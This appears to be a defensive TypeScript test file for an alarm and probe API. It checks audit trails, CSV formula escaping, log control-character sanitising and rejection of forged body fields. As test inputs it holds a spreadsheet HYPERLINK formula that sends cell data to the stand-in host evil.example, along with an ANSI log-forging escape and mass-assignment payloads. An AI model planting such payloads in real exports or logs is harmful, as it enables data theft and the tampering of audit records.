// Alarms as an attacker would use them (docs/audit.md, docs/security.md): acknowledge, shelve and unshelve
// are audited, a probe's deletion records its assignment, CSV exports never carry a live formula, a shelve
// reason cannot write control characters into the log, and alarm bodies refuse fields they do not know.
import type { Alarm, AuditEntry } from '@bpm/protocol';
import { describe, expect, it } from 'vitest';
import { sharedTestApp } from '../../testing/shared-test-app.js';
import { report } from './alarms-api.testing.js';
import { parseCsv } from './csv-parse.testing.js';

const t = sharedTestApp();
const { call } = t;
const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const hostile = {
  buildStage: { id: 9, name: formula },
  agv: { id: 13, name: '+AGV-13' },
  batteryPack: { id: 4040, name: '@Pack 4040' },
  expectingCANData: true,
};

const hostileReport = (probeID: string, temperature: number) => report(probeID, temperature, { assignment: hostile });

async function raise(probeID: string): Promise<Alarm> {
  expect((await call('POST', '/api/probes/reports', [hostileReport(probeID, 60)])).statusCode).toBe(202);
  const alarms = (await call('GET', `/api/alarms?probeID=${probeID}`)).json() as Alarm[];
  return alarms[0]!;
}

const audit = async (query: string): Promise<AuditEntry[]> => (await call('GET', `/api/audit${query}`)).json();

describe('the audit trail of alarms and probes', () => {
  it('records acknowledge (one and many), shelve and unshelve with what changed', async () => {
    const one = await raise('AUD-1');
    const two = await raise('AUD-2');
    expect((await call('POST', `/api/alarms/${one.id}/acknowledge`, { comment: 'Fan checked' })).statusCode).toBe(200);
    expect((await call('POST', '/api/alarms/acknowledge', { ids: [two.id], comment: 'Both' })).statusCode).toBe(200);
    expect((await call('POST', `/api/alarms/${one.id}/shelve`, { minutes: 30, reason: 'Sensor swap' })).statusCode).toBe(200);
    expect((await call('DELETE', `/api/alarms/${one.id}/shelve`)).statusCode).toBe(200);

    const first = await audit(`?target=alarm:${one.id}`);
    expect(first.map((e) => e.action)).toEqual(['alarm.unshelve', 'alarm.shelve', 'alarm.acknowledge']);
    expect(first.every((e) => e.actor?.username === 'admin')).toBe(true);
    expect(first[2]!.changes).toEqual({ ackComment: { before: null, after: 'Fan checked' } });
    expect(first[1]!.changes).toMatchObject({ shelveReason: { before: null, after: 'Sensor swap' } });
    expect((await audit(`?target=alarm:${two.id}`)).map((e) => e.action)).toEqual(['alarm.acknowledge']);
  });

  it('records a probe’s deletion with the assignment it had', async () => {
    await raise('AUD-3');
    expect((await call('DELETE', '/api/probes/AUD-3')).statusCode).toBe(204);
    const [entry] = await audit('?target=probe:AUD-3&action=probe.delete');
    expect(entry?.changes).toEqual({ assignment: { before: hostile, after: null } });
  });
});

describe('CSV exports', () => {
  it('escape every cell a spreadsheet would read as a formula, in alarms.csv and journal.csv', async () => {
    const alarm = await raise('CSV-1');
    await call('POST', `/api/alarms/${alarm.id}/acknowledge`, { comment: '=1+2' });
    for (const url of ['/api/alarms.csv?probeID=CSV-1', '/api/journal.csv?probeID=CSV-1']) {
      const response = await call('GET', url);
      expect(response.statusCode).toBe(200);
      const rows = parseCsv(response.body);
      const cells = rows.slice(1).flat();
      expect(cells).toContain(`'${formula}`);
      expect(cells).toContain("'+AGV-13");
      expect(cells).toContain("'@Pack 4040");
      if (url.includes('alarms')) expect(cells).toContain("'=1+2");
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
  });
});

describe('alarm bodies and the log', () => {
  it('writes a shelve reason holding ESC as a visible escape, never the raw control character', async () => {
    const alarm = await raise('LOG-1');
    const reason = 'swap\u001b[2Kforged';
    expect((await call('POST', `/api/alarms/${alarm.id}/shelve`, { minutes: 5, reason })).statusCode).toBe(200);
    const logs = (await call('GET', '/api/system/logs?q=LOG-1&limit=20')).json() as Array<{ msg: string }>;
    const shelved = logs.find((e) => e.msg.includes('shelved by'));
    expect(shelved?.msg).toContain('swap\\u001b[2Kforged');
    expect(shelved?.msg).not.toContain('\u001b');
  });

  it('refuses unknown fields in alarm bodies (400 naming them)', async () => {
    const alarm = await raise('BODY-1');
    const cases: Array<[string, object]> = [
      [`/api/alarms/${alarm.id}/acknowledge`, { comment: 'ok', acknowledgedBy: { id: 1, username: 'admin' } }],
      ['/api/alarms/acknowledge', { ids: [alarm.id], acknowledgedBy: 1 }],
      [`/api/alarms/${alarm.id}/shelve`, { minutes: 5, reason: 'ok', until: '2099-01-01T00:00:00Z' }],
    ];
    for (const [url, payload] of cases) {
      const response = await call('POST', url, payload);
      expect(response.statusCode, url).toBe(400);
      expect(response.json().message).toMatch(/acknowledgedBy|until/);
    }
    const after = (await call('GET', `/api/alarms/${alarm.id}`)).json() as Alarm;
    expect(after).toMatchObject({ acknowledgedBy: null, shelvedUntil: null });
  });
});
